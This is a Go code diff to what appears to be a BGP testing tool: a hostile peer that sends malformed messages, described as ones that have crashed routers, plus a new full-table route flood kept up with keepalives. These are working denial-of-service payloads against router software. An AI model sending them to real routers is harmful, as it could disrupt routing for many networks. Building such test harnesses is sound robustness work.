@@ -25,6 +25,8 @@ type Attack struct {
 	Established bool
 	// Bytes are sent as they are.
 	Bytes []byte
+	// Stay is how long the session is kept up afterwards; zero leaves it after a while.
+	Stay time.Duration
 }
 
 // Types of BGP messages (RFC 4271 4.1).
@@ -64,18 +66,32 @@ const (
 // Attacks are messages that have ended routers, and some that only ought to end a session.
 func Attacks(asn uint16, id netip.Addr) []Attack {
 	return []Attack{
-		{"a message of unknown type before any OPEN", false, message(99)},
-		{"a second OPEN", true, open(asn, id)},
-		{"MP_REACH of length 3", true, update(mpReach, 0, 1, 1)},
-		{"a short MP_UNREACH of AFI 1, SAFI 128", true, update(mpUnreach, 0, 1, 128, 1)},
-		{"a short MP_UNREACH of AFI 2, SAFI 128", true, update(mpUnreach, 0, 2, 128, 1)},
-		{"MP_REACH of AFI 25, SAFI 65, zeros", true, update(mpReach, append([]byte{0, 25, 65}, make([]byte, 40)...)...)},
-		{"a length of 18", false, append(bytes.Repeat([]byte{0xff}, 16), 0, 18, bgpOpen)},
-		{"no marker", false, bytes.Repeat([]byte{0x41}, 64)},
-		{"an OPEN that is cut short", false, message(bgpOpen, 4, 0)},
-		{"an attribute that is longer than the message", true, message(bgpUpdate, 0, 0, 0, 4, 0x40, 1, 200, 0)},
-		{"a NOTIFICATION without a body", true, message(3)},
+		{Name: "a message of unknown type before any OPEN", Established: false, Bytes: message(99)},
+		{Name: "a second OPEN", Established: true, Bytes: open(asn, id)},
+		{Name: "MP_REACH of length 3", Established: true, Bytes: update(mpReach, 0, 1, 1)},
+		{Name: "a short MP_UNREACH of AFI 1, SAFI 128", Established: true, Bytes: update(mpUnreach, 0, 1, 128, 1)},
+		{Name: "a short MP_UNREACH of AFI 2, SAFI 128", Established: true, Bytes: update(mpUnreach, 0, 2, 128, 1)},
+		{Name: "MP_REACH of AFI 25, SAFI 65, zeros", Established: true, Bytes: update(mpReach, append([]byte{0, 25, 65}, make([]byte, 40)...)...)},
+		{Name: "a length of 18", Established: false, Bytes: append(bytes.Repeat([]byte{0xff}, 16), 0, 18, bgpOpen)},
+		{Name: "no marker", Established: false, Bytes: bytes.Repeat([]byte{0x41}, 64)},
+		{Name: "an OPEN that is cut short", Established: false, Bytes: message(bgpOpen, 4, 0)},
+		{Name: "an attribute that is longer than the message", Established: true, Bytes: message(bgpUpdate, 0, 0, 0, 4, 0x40, 1, 200, 0)},
+		{Name: "a NOTIFICATION without a body", Established: true, Bytes: message(3)},
 	}
+}
+
+// FullTable is a router that sends this many routes with AS paths of 100 numbers and keeps the session up.
+func FullTable(routes int, stay time.Duration) Attack {
+	attributes := []byte{0x40, 1, 1, 0, 0x40, 3, 4, 192, 0, 2, 9, 0x40, 2, 202, 2, 100}
+	for i := range 100 {
+		attributes = append(attributes, 0xfd, byte(i))
+	}
+	var all []byte
+	for i := range routes {
+		body := append([]byte{0, 0, 0, byte(len(attributes))}, attributes...)
+		all = append(all, message(bgpUpdate, append(body, 32, 10, byte(i>>16), byte(i>>8), byte(i))...)...)
+	}
+	return Attack{Name: "a full table", Established: true, Bytes: all, Stay: stay}
 }
 
 // Hostile is a peer that attacks whoever connects to it.
@@ -159,7 +175,7 @@ const patience = 2 * time.Second
 func (p *Hostile) attack(ctx context.Context, connection net.Conn, attack Attack) error {
 	stop := context.AfterFunc(ctx, func() { _ = connection.Close() })
 	defer stop()
-	if err := connection.SetDeadline(time.Now().Add(patience)); err != nil {
+	if err := connection.SetDeadline(time.Now().Add(patience + attack.Stay)); err != nil {
 		return err
 	}
 	if attack.Established {
@@ -170,8 +186,27 @@ func (p *Hostile) attack(ctx context.Context, connection net.Conn, attack Attack
 	if _, err := connection.Write(attack.Bytes); err != nil {
 		return err
 	}
+	if attack.Stay > 0 {
+		stay, end := context.WithCancel(ctx)
+		defer end()
+		go keepAlive(stay, connection)
+	}
 	_, _ = io.Copy(io.Discard, connection)
 	return nil
+}
+
+// keepAlive sends KEEPALIVE until the connection ends; the hold time is 9 s.
+func keepAlive(ctx context.Context, connection net.Conn) {
+	for {
+		if _, err := connection.Write(message(bgpKeepalive)); err != nil {
+			return
+		}
+		select {
+		case <-ctx.Done():
+			return
+		case <-time.After(patience):
+		}
+	}
 }
 
 // establish agrees on a session: both sides send OPEN, then KEEPALIVE.
